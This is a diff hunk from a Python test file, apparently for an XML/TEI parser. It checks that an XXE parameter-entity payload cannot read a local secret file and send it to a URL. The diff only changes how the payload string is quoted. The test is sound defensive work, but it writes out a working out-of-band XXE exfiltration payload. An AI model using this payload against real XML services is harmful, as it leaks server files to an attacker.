@@ -277,7 +277,7 @@ def test_an_entity_in_an_attribute_reads_nothing(tmp_path):
 def test_a_parameter_entity_cannot_send_a_file_away(tmp_path):
     declared = (
         f'<!DOCTYPE TEI [<!ENTITY % f SYSTEM "{secret(tmp_path)}">'
-        '<!ENTITY % e "<!ENTITY s SYSTEM \'http://localhost:9/%f;\'>">%e;]>'
+        "<!ENTITY % e \"<!ENTITY s SYSTEM 'http://localhost:9/%f;'>\">%e;]>"
     )
     source = doctype(tmp_path, declared, "Word")
     assert source.root is None or text(source).strip() == "Word"
